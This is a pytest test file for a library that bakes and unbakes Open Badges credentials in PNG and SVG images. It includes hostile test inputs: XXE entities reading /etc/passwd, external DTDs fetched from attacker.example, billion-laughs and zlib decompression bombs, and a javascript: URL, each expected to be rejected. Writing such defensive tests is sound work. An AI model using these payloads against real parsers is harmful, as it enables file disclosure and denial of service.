"""Baking and unbaking badge images (``vcbadges.credentials.baking``).

PNGs are built by hand here with ``zlib``/``struct`` (a 1x1 greyscale image), so every byte
of a hostile input is visible in the test that uses it. The official baked images come from
the 1EdTech validator fixtures in ``../shared/ob3/examples/validator`` (see its README);
those tests skip when the shared data is absent.
"""

from __future__ import annotations

import base64
import json
import re
import struct
import zlib
from typing import Any

import pytest

from shared_data import SHARED, need_shared
from vcbadges.credentials.baking import (
    BAKED_DUPLICATE,
    BAKED_PAYLOAD_MALFORMED,
    BAKED_TEXT_TOO_LARGE,
    IMAGE_MALFORMED,
    IMAGE_TOO_LARGE,
    IMAGE_UNSUPPORTED,
    MAX_IMAGE_BYTES,
    NO_BAKED_CREDENTIAL,
    OB3_SVG_NAMESPACE,
    Unbaked,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)
from vcbadges.errors import CredentialError

VALIDATOR = SHARED / "ob3" / "examples" / "validator"

SIGNATURE = b"\x89PNG\r\n\x1a\n"

CREDENTIAL: dict[str, Any] = {
    "@context": [
        "https://www.w3.org/ns/credentials/v2",
        "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
    ],
    "id": "urn:uuid:2f8b3c1e-6d1a-4f5e-9b0a-7c3d2e1f0a9b",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {"id": "did:example:issuer", "type": ["Profile"], "name": "Zoë's Académie ✓"},
    "validFrom": "2024-01-01T00:00:00Z",
    "name": 'Edge cases ]]> and <tags> & "quotes" 🎓',
    "credentialSubject": {"type": ["AchievementSubject"], "achievement": {"name": "x"}},
}


def _b64url(value: dict[str, Any]) -> str:
    raw = json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


JWS = ".".join([_b64url({"alg": "EdDSA", "typ": "vc+jwt"}), _b64url({"iss": "x"}), "c2ln"])
JWS_2 = ".".join([_b64url({"alg": "ES256"}), _b64url({"iss": "y"}), "c2lnMg"])


# ------------------------------------------------------------------------ PNG helpers


def chunk(chunk_type: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    if crc is None:
        crc = zlib.crc32(chunk_type + body)
    return struct.pack(">I", len(body)) + chunk_type + body + struct.pack(">I", crc)


IHDR = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
IDAT = chunk(b"IDAT", zlib.compress(b"\x00\x80"))
IEND = chunk(b"IEND", b"")


def png(*middle: bytes) -> bytes:
    """A 1x1 greyscale PNG with ``middle`` chunks between IDAT and IEND."""
    return SIGNATURE + IHDR + IDAT + b"".join(middle) + IEND


def itxt(keyword: str, text: bytes, *, compressed: bool = False) -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return chunk(b"iTXt", keyword.encode("latin-1") + b"\x00" + flag + b"\x00\x00" + text)


def ztxt(keyword: str, compressed: bytes) -> bytes:
    return chunk(b"zTXt", keyword.encode("latin-1") + b"\x00\x00" + compressed)


def text_chunk(keyword: str, text: bytes) -> bytes:
    return chunk(b"tEXt", keyword.encode("latin-1") + b"\x00" + text)


def read_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """An independent reader for the tests: checks signature and CRCs, returns chunks."""
    assert data[:8] == SIGNATURE
    pos, out = 8, []
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        kind, body = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", data[pos + 8 + length : pos + 12 + length])
        assert zlib.crc32(kind + body) == crc, kind
        out.append((kind, body))
        pos += 12 + length
    assert out[-1][0] == b"IEND" and pos == len(data)
    return out


def credential_chunks(data: bytes) -> list[bytes]:
    return [
        body
        for kind, body in read_chunks(data)
        if kind in (b"iTXt", b"zTXt", b"tEXt") and body.startswith(b"openbadgecredential\x00")
    ]


def bomb(size: int) -> bytes:
    """``size`` bytes of spaces, zlib-compressed (about a thousandth of the size)."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    parts = [packer.compress(block) for _ in range(size >> 20)]
    return b"".join(parts) + packer.flush()


def code_of(call: Any, *args: Any, **kwargs: Any) -> str:
    with pytest.raises(CredentialError) as info:
        call(*args, **kwargs)
    return info.value.code


# ------------------------------------------------------------------------ SVG helpers

SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<!-- drawn by hand -->\n"
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"\n'
    b"     data-note=\"a &gt; b, 'quoted' &amp; &quot;more&quot;\">\n"
    b'  <circle cx="5" cy="5" r="4" fill="#0a0"/>\n'
    b"</svg>\n"
)

OB3_ELEMENT = re.compile(rb"<openbadges:credential[ >].*?</openbadges:credential>", re.S)


def remove_baking(baked: bytes) -> bytes:
    """Undo exactly what ``bake_svg`` adds to a document without an ``openbadges`` prefix."""
    without_element = OB3_ELEMENT.sub(b"", baked, count=1)
    return without_element.replace(f' xmlns:openbadges="{OB3_SVG_NAMESPACE}"'.encode(), b"", 1)


# ------------------------------------------------------------------------ PNG round trips


def test_png_round_trip_with_a_json_credential() -> None:
    baked = bake_png(png(), CREDENTIAL)
    assert unbake(baked) == Unbaked("png", "ob3", CREDENTIAL)
    assert unbake_png(baked) == Unbaked("png", "ob3", CREDENTIAL)


def test_png_chunk_is_uncompressed_compact_utf8_json_right_after_ihdr() -> None:
    baked = bake_png(png(), CREDENTIAL)
    chunks = read_chunks(baked)
    assert [kind for kind, _ in chunks] == [b"IHDR", b"iTXt", b"IDAT", b"IEND"]
    body = chunks[1][1]
    prefix = b"openbadgecredential\x00\x00\x00\x00\x00"
    assert body.startswith(prefix)
    text = body[len(prefix) :].decode("utf-8")
    assert text == json.dumps(CREDENTIAL, ensure_ascii=False, separators=(",", ":"))
    assert "Zoë" in text  # Not \u-escaped: ensure_ascii=False.


def test_png_round_trip_with_a_jws() -> None:
    baked = bake_png(png(), JWS)
    assert unbake(baked) == Unbaked("png", "ob3", JWS)
    assert credential_chunks(baked) == [b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode()]


def test_png_keeps_other_chunks_byte_for_byte() -> None:
    note = text_chunk("Comment", b"hello")
    baked = bake_png(png(note), JWS)
    assert (
        baked == SIGNATURE + IHDR + itxt("openbadgecredential", JWS.encode()) + IDAT + note + IEND
    )


def test_png_bytes_after_iend_are_dropped() -> None:
    baked = bake_png(png() + b"trailing junk", JWS)
    assert read_chunks(baked)[-1][0] == b"IEND"


def test_png_rebaking_replaces_never_duplicates() -> None:
    once = bake_png(png(), CREDENTIAL)
    twice = bake_png(once, JWS)
    assert len(credential_chunks(twice)) == 1
    assert unbake(twice).payload == JWS
    assert bake_png(twice, JWS) == twice


def test_png_rebaking_removes_compressed_and_latin1_credential_chunks_too() -> None:
    image = png(ztxt("openbadgecredential", zlib.compress(JWS_2.encode())))
    assert unbake(image).payload == JWS_2
    assert credential_chunks(bake_png(image, JWS)) == [
        b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode()
    ]


def test_png_json_text_string_is_baked_as_given() -> None:
    text = '{\n  "a": "é",\n  "b": [1, 2]\n}'
    baked = bake_png(png(), text)
    assert credential_chunks(baked)[0].endswith(text.encode("utf-8"))
    assert unbake(baked).payload == {"a": "é", "b": [1, 2]}


def test_png_lone_surrogates_are_json_escaped() -> None:
    baked = bake_png(png(), {"name": "\ud800"})
    assert credential_chunks(baked)[0].endswith(b'{"name":"\\ud800"}')
    assert unbake(baked).payload == {"name": "\ud800"}


def test_png_compressed_itxt_within_the_cap_is_read() -> None:
    """Deviation from "Compression MUST NOT be used", documented in the module."""
    image = png(itxt("openbadgecredential", zlib.compress(JWS.encode()), compressed=True))
    assert unbake(image) == Unbaked("png", "ob3", JWS)


# ------------------------------------------------------------------------ SVG round trips


def test_svg_round_trip_with_a_json_credential() -> None:
    baked = bake_svg(SVG, CREDENTIAL)
    assert unbake(baked) == Unbaked("svg", "ob3", CREDENTIAL)
    assert unbake_svg(baked) == Unbaked("svg", "ob3", CREDENTIAL)


def test_svg_json_goes_in_cdata_split_around_the_terminator() -> None:
    baked = bake_svg(SVG, CREDENTIAL).decode("utf-8")
    assert "<![CDATA[{" in baked
    assert "Edge cases ]]]]><![CDATA[> and <tags>" in baked
    assert "]]>" not in baked.split("<![CDATA[", 1)[0]


def test_svg_round_trip_with_a_jws_in_verify() -> None:
    baked = bake_svg(SVG, JWS)
    assert unbake(baked) == Unbaked("svg", "ob3", JWS)
    assert f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode() in baked


def test_svg_changes_nothing_but_the_namespace_and_the_element() -> None:
    baked = bake_svg(SVG, CREDENTIAL)
    assert remove_baking(baked) == SVG
    # The element comes directly after the root start tag, which declares the prefix.
    root_tag_end = baked.index(b'more&quot;"') + len(b'more&quot;"')
    assert baked[root_tag_end:].startswith(
        f' xmlns:openbadges="{OB3_SVG_NAMESPACE}"><openbadges:credential>'.encode()
    )


def test_svg_rebaking_replaces_never_duplicates() -> None:
    once = bake_svg(SVG, CREDENTIAL)
    twice = bake_svg(once, JWS)
    assert twice.count(b"<openbadges:credential") == 1
    assert twice.count(b"xmlns:openbadges") == 1
    assert unbake(twice).payload == JWS
    assert remove_baking(twice) == SVG
    assert bake_svg(twice, JWS) == twice


def test_svg_rebaking_removes_an_indented_element_and_its_line() -> None:
    baked = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="https://purl.imsglobal.org/ob/v3p0">\n'
        b'  <ob:credential verify="old"/>\n'
        b"  <g/>\n"
        b"</svg>"
    )
    assert bake_svg(baked, JWS) == (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="https://purl.imsglobal.org/ob/v3p0"'
        b' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
        + f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode()
        + b"\n  <g/>\n</svg>"
    )


def test_svg_rebaking_removes_nested_and_self_closing_elements_exactly() -> None:
    """An empty-element tag right before its parent's end tag is cut without the end tag."""
    doc = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_SVG_NAMESPACE}">'
        f'<g><openbadges:credential verify="{JWS_2}"/></g>'
        f'<a><credential xmlns="{OB3_SVG_NAMESPACE}">{{"a": 1}}</credential ></a></svg>'
    )
    assert code_of(unbake, doc.encode()) == BAKED_DUPLICATE
    baked = bake_svg(doc.encode(), JWS)
    assert (
        baked
        == (
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_SVG_NAMESPACE}">'
            f'<openbadges:credential verify="{JWS}"></openbadges:credential>'
            "<g></g><a></a></svg>"
        ).encode()
    )


def test_svg_doctype_without_external_subset_is_accepted() -> None:
    doc = b'<!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>'
    assert unbake(bake_svg(doc, JWS)).payload == JWS


def test_svg_self_closing_root() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" />', JWS)
    assert baked == (
        b'<svg xmlns="http://www.w3.org/2000/svg"  xmlns:openbadges="'
        + OB3_SVG_NAMESPACE.encode()
        + b'">'
        + f'<openbadges:credential verify="{JWS}"></openbadges:credential></svg>'.encode()
    )
    assert unbake(baked).payload == JWS


def test_svg_upgrading_an_ob2_badge_keeps_its_prefix_binding() -> None:
    legacy = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/assertions/1"/></svg>'
    )
    assert unbake(legacy) == Unbaked("svg", "ob2", "https://example.org/assertions/1")
    baked = bake_svg(legacy, CREDENTIAL)
    assert baked.count(b'xmlns:openbadges="http://openbadges.org"') == 1
    assert f'<openbadges:credential xmlns:openbadges="{OB3_SVG_NAMESPACE}">'.encode() in baked
    assert unbake(baked) == Unbaked("svg", "ob3", CREDENTIAL)


def test_svg_with_existing_ob3_prefix_is_not_declared_twice() -> None:
    doc = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_SVG_NAMESPACE}"/>'
    baked = bake_svg(doc.encode(), JWS)
    assert baked.count(b"xmlns:openbadges") == 1
    assert unbake(baked).payload == JWS


def test_svg_with_bom_and_standard_doctype() -> None:
    doc = (
        b"\xef\xbb\xbf<?xml version='1.0'?>\n"
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'
    )
    baked = bake_svg(doc, CREDENTIAL)
    assert baked.startswith(b"\xef\xbb\xbf<?xml")
    assert unbake(baked).payload == CREDENTIAL


def test_svg_in_latin1_gets_ascii_json() -> None:
    doc = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg">é</svg>'
    )
    baked = bake_svg(doc.encode("latin-1"), CREDENTIAL)
    assert baked.decode("latin-1").endswith("é</svg>")
    element = OB3_ELEMENT.search(baked)
    assert element is not None and element.group().isascii()
    assert unbake(baked).payload == CREDENTIAL


def test_svg_in_utf16_is_read_but_not_baked() -> None:
    data = _ob3_svg(f'<openbadges:credential verify="{JWS}"/>').decode().encode("utf-16")
    assert unbake(data) == Unbaked("svg", "ob3", JWS)
    assert code_of(bake_svg, data, JWS) == IMAGE_UNSUPPORTED


def test_svg_xml_forbidden_characters_are_json_escaped() -> None:
    baked = bake_svg(SVG, {"name": "\ufffe\uffff"})
    assert b"\\ufffe\\uffff" in baked
    assert unbake(baked).payload == {"name": "\ufffe\uffff"}


# ------------------------------------------------------------------------ OB 2.0 (legacy)


def test_ob2_png_itxt_json_assertion() -> None:
    assertion = {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": "x"}
    image = png(itxt("openbadges", json.dumps(assertion).encode()))
    assert unbake(image) == Unbaked("png", "ob2", assertion)


def test_ob2_png_text_chunk_with_a_hosted_url() -> None:
    image = png(text_chunk("openbadges", b"https://example.org/assertions/1"))
    assert unbake(image) == Unbaked("png", "ob2", "https://example.org/assertions/1")


def test_ob2_png_jws() -> None:
    assert unbake(png(itxt("openbadges", JWS.encode()))) == Unbaked("png", "ob2", JWS)


def test_ob3_wins_over_ob2_and_baking_keeps_ob2() -> None:
    image = png(itxt("openbadges", b"https://example.org/a"))
    baked = bake_png(image, JWS)
    assert unbake(baked) == Unbaked("png", "ob3", JWS)
    assert any(body.startswith(b"openbadges\x00") for _, body in read_chunks(baked))


def test_ob2_svg_hosted_assertion_json_wins_over_its_url() -> None:
    doc = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/a"><![CDATA[{"id": "https://example.org/a"}]]>'
        b"</openbadges:assertion></svg>"
    )
    assert unbake(doc) == Unbaked("svg", "ob2", {"id": "https://example.org/a"})


def test_a_url_is_not_an_ob3_payload() -> None:
    image = png(itxt("openbadgecredential", b"https://example.org/a"))
    assert code_of(unbake, image) == BAKED_PAYLOAD_MALFORMED


# ------------------------------------------------------------------------ official fixtures

FIXTURES = [
    # (file, format, payload kind) as the fixtures README describes them.
    ("simple-json.png", "png", dict),
    ("simple-json.svg", "svg", dict),
    ("simple-jwt.png", "png", str),
    ("simple-jwt.svg", "svg", str),
    ("simple-jwt_v1.png", "png", str),
    ("simple-jwt_v1.svg", "svg", str),
]


def _jws_part(token: str, index: int) -> Any:
    part = token.split(".")[index]
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


@pytest.mark.parametrize(("name", "image_format", "kind"), FIXTURES)
def test_validator_fixture_unbakes(name: str, image_format: str, kind: type) -> None:
    data = need_shared(VALIDATOR / name).read_bytes()
    found = unbake(data)
    assert (found.format, found.version) == (image_format, "ob3")
    assert isinstance(found.payload, kind)
    if isinstance(found.payload, dict):
        assert found.payload["type"] == ["VerifiableCredential", "OpenBadgeCredential"]
        assert found.payload["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"
    else:
        assert _jws_part(found.payload, 0)["alg"] == "RS256"
        claims = _jws_part(found.payload, 1)
        credential = claims["vc"] if name.endswith("_v1." + image_format) else claims
        assert "OpenBadgeCredential" in credential["type"]


def test_validator_json_fixtures_hold_the_same_credential() -> None:
    png_payload = unbake(need_shared(VALIDATOR / "simple-json.png").read_bytes()).payload
    svg_payload = unbake(need_shared(VALIDATOR / "simple-json.svg").read_bytes()).payload
    assert png_payload == svg_payload


@pytest.mark.parametrize(("name", "image_format", "kind"), FIXTURES)
def test_validator_fixture_rebakes_to_one_credential(
    name: str, image_format: str, kind: type
) -> None:
    data = need_shared(VALIDATOR / name).read_bytes()
    bake = bake_png if image_format == "png" else bake_svg
    rebaked = bake(data, JWS)
    assert unbake(rebaked) == Unbaked(image_format, "ob3", JWS)  # type: ignore[arg-type]
    if image_format == "png":
        assert len(credential_chunks(rebaked)) == 1
    else:
        assert rebaked.count(b"<openbadges:credential") == 1
        assert rebaked.count(b"xmlns:openbadges") == 1


# ------------------------------------------------------------------------ hostile PNGs


def test_png_bad_signature() -> None:
    damaged = png().replace(b"\r\n", b"\n", 1)  # A text-mode transfer.
    assert code_of(unbake_png, damaged) == IMAGE_MALFORMED
    assert code_of(unbake, damaged) == IMAGE_MALFORMED  # Still sniffed as PNG.
    assert code_of(bake_png, damaged, JWS) == IMAGE_MALFORMED
    assert code_of(unbake, b"GIF89a....") == IMAGE_UNSUPPORTED


def test_png_bad_crc() -> None:
    image = SIGNATURE + IHDR + chunk(b"IDAT", b"xx", crc=0) + IEND
    assert code_of(unbake, image) == IMAGE_MALFORMED
    assert code_of(bake_png, image, JWS) == IMAGE_MALFORMED


def test_png_bad_crc_on_the_credential_chunk() -> None:
    bad = chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode(), crc=1)
    assert code_of(unbake, png(bad)) == IMAGE_MALFORMED


def test_png_truncated_chunk() -> None:
    image = png(itxt("openbadgecredential", JWS.encode()))
    assert code_of(unbake, image[: len(image) - len(IEND) - 5]) == IMAGE_MALFORMED


def test_png_without_iend() -> None:
    assert code_of(unbake, SIGNATURE + IHDR + IDAT) == IMAGE_MALFORMED


def test_png_not_starting_with_ihdr() -> None:
    assert code_of(unbake, SIGNATURE + IDAT + IHDR + IEND) == IMAGE_MALFORMED


@pytest.mark.parametrize("length", [2**31 - 1, 2**31, 2**32 - 1])
def test_png_huge_chunk_length(length: int) -> None:
    image = SIGNATURE + IHDR + struct.pack(">I", length) + b"iTXt" + b"openbadgecredential\x00"
    assert code_of(unbake, image) == IMAGE_MALFORMED
    assert code_of(bake_png, image, JWS) == IMAGE_MALFORMED


def test_png_invalid_chunk_type() -> None:
    assert code_of(unbake, png(chunk(b"i\x00Xt", b""))) == IMAGE_MALFORMED


def test_ztxt_bomb() -> None:
    image = png(ztxt("openbadgecredential", bomb(16 << 20)))
    assert len(image) < 128 << 10
    assert code_of(unbake, image) == BAKED_TEXT_TOO_LARGE


def test_compressed_itxt_bomb() -> None:
    image = png(itxt("openbadgecredential", bomb(16 << 20), compressed=True))
    assert code_of(unbake, image) == BAKED_TEXT_TOO_LARGE


def test_compressed_text_cap_is_the_text_cap() -> None:
    image = png(itxt("openbadgecredential", zlib.compress(JWS.encode()), compressed=True))
    assert unbake(image, max_text_bytes=len(JWS)).payload == JWS
    assert code_of(unbake, image, max_text_bytes=len(JWS) - 1) == BAKED_TEXT_TOO_LARGE


def test_compressed_itxt_truncated_stream() -> None:
    stream = zlib.compress(JWS.encode())[:-6]
    image = png(itxt("openbadgecredential", stream, compressed=True))
    assert code_of(unbake, image) == IMAGE_MALFORMED


def test_compressed_itxt_garbage() -> None:
    image = png(itxt("openbadgecredential", b"not zlib at all", compressed=True))
    assert code_of(unbake, image) == IMAGE_MALFORMED


def test_itxt_without_its_header_fields() -> None:
    image = png(chunk(b"iTXt", b"openbadgecredential\x00\x00\x00no-nul-after-language"))
    assert code_of(unbake, image) == IMAGE_MALFORMED


def test_uncompressed_text_over_the_cap() -> None:
    image = png(itxt("openbadgecredential", JWS.encode()))
    assert code_of(unbake, image, max_text_bytes=len(JWS) - 1) == BAKED_TEXT_TOO_LARGE
    assert code_of(bake_png, png(), JWS, max_text_bytes=len(JWS) - 1) == BAKED_TEXT_TOO_LARGE


@pytest.mark.parametrize(
    "second",
    [
        itxt("openbadgecredential", JWS_2.encode()),
        ztxt("openbadgecredential", zlib.compress(JWS_2.encode())),
        text_chunk("openbadgecredential", JWS_2.encode()),
    ],
)
def test_two_credential_chunks(second: bytes) -> None:
    image = png(itxt("openbadgecredential", JWS.encode()), second)
    assert code_of(unbake, image) == BAKED_DUPLICATE


def test_two_ob2_chunks() -> None:
    image = png(
        itxt("openbadges", b"https://a.example/1"), itxt("openbadges", b"https://a.example/2")
    )
    assert code_of(unbake, image) == BAKED_DUPLICATE


def test_image_too_large() -> None:
    assert code_of(unbake, png() + b"\x00" * (MAX_IMAGE_BYTES + 1)) == IMAGE_TOO_LARGE
    assert code_of(unbake, png(), max_image_bytes=10) == IMAGE_TOO_LARGE
    assert code_of(bake_png, png(), JWS, max_image_bytes=10) == IMAGE_TOO_LARGE
    assert code_of(bake_svg, SVG, JWS, max_image_bytes=10) == IMAGE_TOO_LARGE


def test_png_without_a_credential() -> None:
    assert code_of(unbake, png(text_chunk("Comment", b"hi"))) == NO_BAKED_CREDENTIAL


def test_png_invalid_utf8_text() -> None:
    image = png(itxt("openbadgecredential", b'{"a": "\xff"}'))
    assert code_of(unbake, image) == BAKED_PAYLOAD_MALFORMED


# ------------------------------------------------------------------------ hostile SVGs

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg">&lol3;</svg>"""

HOSTILE_SVGS = {
    "entity": b'<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "billion laughs": BILLION_LAUGHS,
    "external entity": (
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
    ),
    "parameter entity": (
        b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "external DTD": (
        b'<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "external DTD with an SVG public id": (
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "file:///etc/passwd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "internal subset without entities": (
        b'<!DOCTYPE svg [<!ATTLIST svg xmlns:openbadges CDATA #FIXED "urn:x">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "not well-formed": b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
    "undefined entity": b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>',
}


@pytest.mark.parametrize("doc", HOSTILE_SVGS.values(), ids=HOSTILE_SVGS.keys())
def test_hostile_svg(doc: bytes) -> None:
    assert code_of(unbake, doc) == IMAGE_MALFORMED
    assert code_of(unbake_svg, doc) == IMAGE_MALFORMED
    assert code_of(bake_svg, doc, JWS) == IMAGE_MALFORMED


@pytest.mark.parametrize(
    "doc",
    [
        b"<html><body/></html>",
        b'<svg xmlns="urn:not-svg"/>',
        f'<openbadges:credential xmlns:openbadges="{OB3_SVG_NAMESPACE}" verify="{JWS}"/>'.encode(),
    ],
)
def test_root_not_svg(doc: bytes) -> None:
    assert code_of(unbake, doc) == IMAGE_UNSUPPORTED
    assert code_of(bake_svg, doc, JWS) == IMAGE_UNSUPPORTED


def _ob3_svg(inner: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_SVG_NAMESPACE}">'
        f"{inner}</svg>"
    ).encode()


def test_svg_cdata_containing_the_terminator_round_trips() -> None:
    credential = {"a": "]]>", "b": "]]]]>>", "c": "x]]>]]>y"}
    assert unbake(bake_svg(SVG, credential)).payload == credential


def test_svg_two_credential_elements() -> None:
    doc = _ob3_svg(
        f'<openbadges:credential verify="{JWS}"/><g><openbadges:credential verify="{JWS_2}"/></g>'
    )
    assert code_of(unbake, doc) == BAKED_DUPLICATE


def test_svg_without_a_credential() -> None:
    assert code_of(unbake, SVG) == NO_BAKED_CREDENTIAL


@pytest.mark.parametrize(
    "inner",
    [
        "<openbadges:credential/>",
        "<openbadges:credential>  \n </openbadges:credential>",
        '<openbadges:credential verify=""/>',
        "<openbadges:credential><![CDATA[]]></openbadges:credential>",
    ],
)
def test_svg_empty_payload(inner: str) -> None:
    assert code_of(unbake, _ob3_svg(inner)) == BAKED_PAYLOAD_MALFORMED


def test_svg_both_verify_and_content_is_ambiguous() -> None:
    doc = _ob3_svg(f'<openbadges:credential verify="{JWS}">{{"a": 1}}</openbadges:credential>')
    assert code_of(unbake, doc) == BAKED_PAYLOAD_MALFORMED


def test_svg_credential_with_child_elements() -> None:
    doc = _ob3_svg("<openbadges:credential><g/></openbadges:credential>")
    assert code_of(unbake, doc) == BAKED_PAYLOAD_MALFORMED


def test_svg_text_over_the_cap() -> None:
    doc = _ob3_svg(f'<openbadges:credential verify="{JWS}"/>')
    assert code_of(unbake, doc, max_text_bytes=len(JWS) - 1) == BAKED_TEXT_TOO_LARGE
    assert code_of(bake_svg, SVG, JWS, max_text_bytes=len(JWS) - 1) == BAKED_TEXT_TOO_LARGE


# ------------------------------------------------------------------------ payloads


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"   \n\t ",
        b"[1, 2]",
        b'"a string"',
        b"{not json",
        b'{"a": 1, "a": 2}',
        b'{"a": NaN}',
        b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b"abc.def.ghi",  # JWS-shaped, but the header is not JSON.
        b"e30.e30.c2ln",  # Header {} has no "alg".
        JWS.encode() + b".extra",
        JWS.rsplit(".", 1)[0].encode() + b".",  # Empty signature.
        b"not a credential",
        b"ftp://example.org/a",
    ],
)
def test_malformed_payloads(text: bytes) -> None:
    assert code_of(unbake, png(itxt("openbadgecredential", text))) == BAKED_PAYLOAD_MALFORMED


def test_ob2_rejects_non_http_urls() -> None:
    for url in (b"javascript:alert(1)", b"https://", b"https://exa mple.org/"):
        assert code_of(unbake, png(itxt("openbadges", url))) == BAKED_PAYLOAD_MALFORMED


def test_baking_refuses_a_string_that_is_no_credential() -> None:
    assert code_of(bake_png, png(), "hello") == BAKED_PAYLOAD_MALFORMED
    assert code_of(bake_svg, SVG, '{"a": 1, "a": 2}') == BAKED_PAYLOAD_MALFORMED
    assert code_of(bake_svg, SVG, "[1]") == BAKED_PAYLOAD_MALFORMED


def test_wrong_argument_types_are_type_errors() -> None:
    with pytest.raises(TypeError):
        bake_png(png(), 42)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        unbake("<svg/>")  # type: ignore[arg-type]
